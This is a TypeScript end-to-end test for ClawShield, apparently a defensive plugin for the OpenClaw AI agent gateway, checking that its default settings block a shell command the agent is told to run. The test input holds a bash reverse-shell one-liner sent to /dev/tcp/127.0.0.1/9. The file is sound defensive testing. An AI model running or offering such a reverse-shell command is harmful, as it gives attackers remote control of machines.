/**
 * Zero configuration: the plugin folder in plugins.load.paths plus `plugins.entries.clawshield.enabled`
 * — no plugin `config`, no clawshield.toml. The built-in defaults must still block a reverse shell, and
 * the evidence must land under OpenClaw's state dir ($OPENCLAW_STATE_DIR/clawshield), not the cwd.
 *
 * Verified on 2026.9.6: load.paths alone is not enough — `openclaw plugins inspect clawshield` says
 * "enabled" but the Gateway does not load it at startup. `plugins.entries.clawshield.enabled: true`
 * (what `openclaw plugins enable clawshield` writes) or `plugins.allow: ["clawshield"]` loads it; the
 * allowlist also unloads every plugin not listed (bundled ones included), so the guide uses the entry.
 */
import assert from "node:assert/strict";
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import { connectOperator, runTurn, startFakeLlm } from "./harness/index.ts";
import type { FakeLlmHandle, GatewayHandle, OperatorClient } from "./harness/index.ts";
import { pluginDir, startGatewayWithPlugin, type PluginDir } from "./plugin-helpers.ts";

describe("ClawShield plugin with no configuration at all", { timeout: 600_000 }, () => {
  let llm: FakeLlmHandle | undefined;
  let gw: GatewayHandle | undefined;
  let sender: OperatorClient | undefined;
  let plugin: PluginDir | undefined;
  let markers = "";

  before(
    async () => {
      markers = mkdtempSync(join(tmpdir(), "clawshield-zero-e2e-"));
      plugin = pluginDir();
      llm = await startFakeLlm();
      gw = await startGatewayWithPlugin({ llm, execMode: "full", pluginPaths: [plugin.dir], pluginEntries: { clawshield: { enabled: true } }, readyTimeoutMs: 180_000 });
      console.log(`# gateway + plugin ready in ${gw.startupMs} ms`);
      sender = await connectOperator({ url: gw.url, token: gw.token });
    },
    { timeout: 400_000 },
  );

  after(async () => {
    await sender?.close();
    await gw?.stop();
    await llm?.close();
    plugin?.cleanup();
    if (markers) rmSync(markers, { recursive: true, force: true });
  });

  test("(e) the reverse shell is blocked by the defaults; evidence under $OPENCLAW_STATE_DIR/clawshield", { timeout: 100_000 }, async (t) => {
    assert.ok(sender && gw);
    const cfg = gw.config as { plugins?: { entries?: Record<string, unknown>; load?: { paths?: string[] } } };
    assert.deepEqual(cfg.plugins?.entries, { clawshield: { enabled: true } }, "no plugin config at all");
    assert.deepEqual(cfg.plugins?.load?.paths, [plugin?.dir]);

    const marker = join(markers, "marker-zero-revshell");
    const turn = await runTurn(sender, { sessionKey: "zero", message: `RUN: touch ${marker} && bash -i >& /dev/tcp/127.0.0.1/9 0>&1`, timeoutMs: 90_000 });
    t.diagnostic(`turn ${turn.durationMs} ms`);
    assert.equal(turn.state, "final", `turn ended ${turn.state}: ${turn.text}`);
    assert.equal(existsSync(marker), false, "the reverse shell ran");
    assert.match(turn.text, /ClawShield blocked this exec call/);

    const qdir = join(gw.stateDir, "clawshield", "quarantine");
    const recs = existsSync(qdir) ? readdirSync(qdir).filter((f) => f.startsWith("blocked-")).map((f) => readFileSync(join(qdir, f), "utf8")) : [];
    assert.ok(recs.some((r) => r.includes(marker)), `no quarantine record in ${qdir}`);
    assert.ok(existsSync(join(gw.stateDir, "clawshield", "decisions.jsonl")), "decision log under the state dir");
    assert.match(gw.readLog(), /\[clawshield\] config loaded \{"configFile":"\(built-in defaults\)"/);
  });
});
